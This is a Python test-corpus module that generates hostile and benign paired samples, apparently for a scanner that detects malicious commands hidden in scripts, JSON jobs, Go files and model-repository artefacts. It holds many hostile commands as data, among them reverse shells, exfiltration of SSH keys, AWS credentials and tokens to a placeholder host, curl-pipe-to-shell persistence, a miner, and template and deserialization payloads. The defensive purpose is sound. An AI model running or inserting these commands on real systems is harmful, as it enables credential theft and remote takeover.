"""Commands that attack by other means than a pipe into a shell, in carriers of three kinds, and their ordinary twins."""

import json
from base64 import b64encode
from collections.abc import Callable, Iterator

from tests.corpus.sample import HOST, Sample, benign, hostile

_ADDRESS = "203.0.113.5"
_HOSTILE = {
    "telnet": f"telnet {HOST} 443 | sh | telnet {HOST} 444",
    "awk": f"awk 'BEGIN{{s=\"/inet/tcp/0/{_ADDRESS}/443\";while(1){{s|&getline c;system(c)}}}}'",
    "ruby": f"ruby -rsocket -e 'c=TCPSocket.new(\"{_ADDRESS}\",443);while(l=c.gets);IO.popen(l);end'",
    "resolver": f"nslookup $(whoami).{HOST}",
    "resolver-token": f"dig +short ${{HF_TOKEN}}.{HOST}",
    "scp": f"scp -r ~/.ssh u@{HOST}:/k",
    "rsync": f"rsync -az ~/.aws/credentials u@{HOST}:k",
    "bucket": "aws s3 cp ~/.ssh s3://corpus-invalid/ --recursive",
    "miner": f"./xmrig -o stratum+tcp://pool.{HOST}:3333 -u 4ABC",
    "suid": "cp /bin/sh /tmp/s && chmod u+s /tmp/s",
    "root": "useradd -o -u 0 -g 0 x",
    "spaces": f"curl${{IFS}}https://{HOST}/i|sh",
    "tftp": f"tftp -g -r x {HOST}; chmod 777 x; ./x",
    "host": "docker run -v /:/host corpus/a chroot /host sh",
    "option": "tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec='sh i.sh'",
    "proxy": f"ssh -o ProxyCommand='curl https://{HOST}/i|sh' x",
    "clock": f"echo 'curl https://{HOST}/i | sh' | at now + 1 minute",
    "profile": f"echo 'curl https://{HOST}/i | sh' >> ~/.bashrc",
    "service": "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/x.service",
    "preload": "LD_PRELOAD=./hook.so python serve.py",
    "guard": "setenforce 0; unset HISTFILE",
    "pip": f"pip install https://{HOST}/a-1.tar.gz",
    "pip-index": f"pip install --index-url https://{HOST}/simple a",
    "npm": f"npm install https://{HOST}/a.tgz",
    "npx": f"npx -y https://{HOST}/a.tgz",
    "uvx": f"uvx --from git+https://{HOST}/a.git a",
    "pipx": f"pipx run --spec https://{HOST}/a.whl a",
    "go": f"go run {HOST}/a@latest",
}
_ORDINARY = {
    "telnet": "telnet localhost 80",
    "awk": "awk '{print $1}' list.txt",
    "ruby": "ruby -e 'puts 1'",
    "resolver": "ping -c 1 $(hostname)",
    "resolver-token": "dig +short huggingface.co",
    "scp": "scp -i ~/.ssh/key.pem u@10.0.0.2:/data/model.bin .",
    "rsync": "rsync -az -e 'ssh -i ~/.ssh/id' out/ u@10.0.0.2:out",
    "bucket": "aws s3 cp model.safetensors s3://models/ --recursive",
    "miner": "python train.py --pool 3",
    "suid": "chmod g+s /data && chmod 0755 run.sh",
    "root": "useradd -m -u 1000 user",
    "spaces": "OLD=$IFS; IFS=, read -ra names",
    "tftp": "echo tftp is not used",
    "host": "docker run --gpus all -v $PWD:/work -v /data:/data image python a.py",
    "option": "tar cf a.tar --checkpoint=100 a",
    "proxy": "ssh -o ProxyCommand='nc -X 5 -x 127.0.0.1:1080 %h %p' x",
    "clock": "echo now | cat",
    "profile": "echo 'conda activate x' >> ~/.bashrc",
    "service": "printf '[Service]\\nExecStart=/usr/bin/serve\\n' > /etc/systemd/system/x.service",
    "preload": "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4 python serve.py",
    "guard": "history | tail -3",
    "pip": "pip install https://download.pytorch.org/whl/a-1.tar.gz",
    "pip-index": "pip install --index-url https://download.pytorch.org/whl/cu121 torch",
    "npm": "npm install express",
    "npx": "npx eslint .",
    "uvx": "uvx --from git+https://github.com/corpus/a.git a",
    "pipx": "pipx run black .",
    "go": "go run golang.org/x/tools/cmd/stringer@latest",
}
_TENSOR = b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\nq\x00)Rq\x01"
# Name, what is hostile under it, what is ordinary.
_BROTHERS: tuple[tuple[str, str | bytes, str | bytes], ...] = (
    ("gin/run.gin", "import os\nrun.hook = @os.system\n", "import seqio\nrun.loss = @seqio.loss\n"),
    ("arch/PKGBUILD", f"build() {{\n  curl http://{HOST}/a | sh\n}}\n", "build() {\n  make\n}\n"),
    ("macro/Module1.xml", '<script:module xmlns:script="s">Sub a\nEnd Sub</script:module>', "<module>a</module>"),
    ("formula/sheet1.xml", "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>", "<worksheet><f>SUM(A1:A9)</f></worksheet>"),
    ("points/entry_points.txt", "[console_scripts]\nx = os:system\n", "[console_scripts]\nx = a.cli:main\n"),
    ("page/a.html", "<py-script>import a</py-script>", "<p>script</p>"),
    (
        "doit/dodo.py",
        f'def task_a():\n    return {{"actions": ["curl http://{HOST}/a | sh"]}}\n',
        'def task_a():\n    return {"actions": ["make"]}\n',
    ),
    (
        "hub/use.py",
        "import sys\nimport torch\nm = torch.hub.load(sys.argv[1], 'net')\n",
        "import sys\nimport torch\nm = torch.hub.load(sys.argv[1], 'net', source='local')\n",
    ),
    (
        "encoded/net-symbol.json",
        json.dumps(
            {"nodes": [{"op": "null", "attrs": {"x": b64encode(b"__import__('os').system('echo budmodel')").decode()}}]}
        ),
        json.dumps(
            {"nodes": [{"op": "null", "attrs": {"x": b64encode(b"a note of the author on what was trained").decode()}}]}
        ),
    ),
    ("tensor/a.pkl", _TENSOR + b"X\x01\0\0\0aX\x01\0\0\0bs.", b"\x80\x02}q\x00X\x01\0\0\0aX\x01\0\0\0bs."),
    ("protocol/a.pkl", b"\x80\x02]\x80\x02.", b"\x80\x02]q\x00."),
    (
        "card/README.md",
        "---\nsdk: docker\napp_file: ../../../etc/passwd\n---\n# A\n",
        "---\nsdk: gradio\napp_file: app.py\n---\n# A\n",
    ),
    (
        "beans/beans.xml",
        '<beans><bean id="a" class="java.lang.ProcessBuilder"/></beans>',
        '<beans><bean id="a" class="a.B"/></beans>',
    ),
    ("freemarker/a.ftl", "${'freemarker.template.utility.Execute'?new()('id')}\n", "Hello ${name}\n"),
    ("kusto/a.kql", f"externaldata(a:string) ['https://{HOST}/x'] | take 1\n", "t | where a == 1 | take 1\n"),
)
# A script as it stands, a text of JSON, a list of words for a program of Go.
_CARRIERS: dict[str, Callable[[str], str]] = {
    "run.sh": lambda command: f"#!/bin/sh\n{command}\n",
    "job.json": lambda command: json.dumps({"steps": [{"run": command}]}),
    "main.go": lambda command: f'package main\nfunc main() {{ exec.Command("sh", "-c", {json.dumps(command)}).Run() }}\n',
}


def samples() -> Iterator[Sample]:
    why = "what a shell does with it, whatever file hands it over"
    for label, commands in ((hostile, _HOSTILE), (benign, _ORDINARY)):
        made = {
            f"{trick}/{name}": write(command) for trick, command in commands.items() for name, write in _CARRIERS.items()
        }
        yield from label("command-trick", why, made)
    why = "the brothers of what is told elsewhere"
    yield from hostile("carrier-brother", why, {path: bad for path, bad, _ in _BROTHERS})
    yield from benign("carrier-brother", why, {path: good for path, _, good in _BROTHERS})
